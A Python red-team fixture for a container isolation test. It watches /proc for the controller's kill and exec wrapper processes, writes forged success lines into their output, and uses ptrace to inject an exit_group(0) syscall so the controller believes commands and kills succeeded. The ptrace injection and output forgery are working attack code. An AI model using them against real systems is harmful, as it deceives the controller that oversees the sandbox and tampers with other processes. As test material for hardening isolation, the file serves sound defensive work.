# The red team's recipe against the controller, run by the sandbox user as a process an earlier
# command left behind (docker-exec-isolation.test.ts). It watches /proc and, for every process it
# has not seen:
# - a kill script (capybara-kill, capybara-killall): stops it before it kills anything, writes the
#   kill script's OK line into its stdout, and kills it, so that a controller that believed the
#   line would think every process ended;
# - a command's wrapper (capybara-exec): stops it before it writes its start byte, writes the
#   start byte and forged output into its stderr and stdout, and makes it exit 0 through ptrace
#   (an exit_group(0) system call written over its next instruction); where it cannot trace it,
#   it kills it.
# Every attempt is logged as "<what> ok" or "<what> <errno>" in argv[1]; several forgers share
# the work by claiming each process with a file beside it.
import ctypes
import os
import signal
import struct
import sys

log = open(sys.argv[1], 'a', buffering=1)
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
PTRACE_PEEKTEXT, PTRACE_POKETEXT, PTRACE_GETREGS, PTRACE_SETREGS, PTRACE_ATTACH, PTRACE_DETACH = 1, 4, 12, 13, 16, 17
SYS_EXIT_GROUP = 231
REGS = ('r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss '
        'fs_base gs_base ds es fs gs').split()


class Regs(ctypes.Structure):
    _fields_ = [(name, ctypes.c_ulonglong) for name in REGS]


def attempt(what, fn):
    try:
        fn()
        log.write(f'{what} ok\n')
        return True
    except OSError as e:
        log.write(f'{what} {e.errno}\n')
        return False


def write_fd(pid, fd, data):
    with open(f'/proc/{pid}/fd/{fd}', 'wb', buffering=0) as out:
        out.write(data)


def check(result):
    if result == -1:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))
    return result


def exit_zero(pid):
    """Attaches, overwrites the next instruction with `syscall`, with exit_group(0) in the registers."""
    check(libc.ptrace(PTRACE_ATTACH, pid, None, None))
    os.waitpid(pid, 0x40000000)  # __WALL
    regs = Regs()
    check(libc.ptrace(PTRACE_GETREGS, pid, None, ctypes.byref(regs)))
    ctypes.set_errno(0)
    word = libc.ptrace(PTRACE_PEEKTEXT, pid, ctypes.c_void_p(regs.rip), None)
    if word == -1 and ctypes.get_errno() != 0:
        check(-1)
    patched = struct.unpack('<q', b'\x0f\x05' + struct.pack('<q', word)[2:])[0]
    check(libc.ptrace(PTRACE_POKETEXT, pid, ctypes.c_void_p(regs.rip), ctypes.c_void_p(patched)))
    regs.rax, regs.rdi, regs.orig_rax = SYS_EXIT_GROUP, 0, 2**64 - 1
    check(libc.ptrace(PTRACE_SETREGS, pid, None, ctypes.byref(regs)))
    check(libc.ptrace(PTRACE_DETACH, pid, None, None))
    os.kill(pid, signal.SIGCONT)


def mem(pid):
    with open(f'/proc/{pid}/mem', 'r+b', buffering=0):
        pass


me, seen = os.getpid(), set()
log.write(f'watching {me}\n')
while True:
    for entry in os.listdir('/proc'):
        if not entry.isdigit() or int(entry) in seen or int(entry) == me:
            continue
        pid = int(entry)
        try:
            argv = open(f'/proc/{pid}/cmdline', 'rb').read().split(b'\0')
        except OSError:
            continue
        if argv[0] in (b'', b'runc') or argv[0].startswith(b'runc:'):
            continue  # still runc's, before the exec's own program: look again next round
        seen.add(pid)
        name = argv[3] if len(argv) > 3 and argv[0] == b'bash' else b''
        if name not in (b'capybara-kill', b'capybara-killall', b'capybara-exec'):
            continue
        try:  # one forger per process: two would fight over it
            os.close(os.open(f'{sys.argv[1]}.{pid}', os.O_CREAT | os.O_EXCL))
        except OSError:
            continue
        try:
            if name in (b'capybara-kill', b'capybara-killall'):
                os.kill(pid, signal.SIGSTOP)
                log.write(f'stopped {name.decode()}\n')
                attempt('kill-ok-line', lambda: write_fd(pid, 1, b'capybara-kill-ok\n'))
                os.kill(pid, signal.SIGKILL)
            elif name == b'capybara-exec':
                os.kill(pid, signal.SIGSTOP)
                log.write('stopped capybara-exec\n')
                attempt('start-byte', lambda: write_fd(pid, 2, b'\x06'))
                attempt('forged-stdout', lambda: write_fd(pid, 1, b'FORGED RESULT\n'))
                attempt('mem', lambda: mem(pid))
                if not attempt('ptrace-exit-0', lambda: exit_zero(pid)):
                    os.kill(pid, signal.SIGKILL)
        except OSError as e:
            log.write(f'lost {pid} {e.errno}\n')
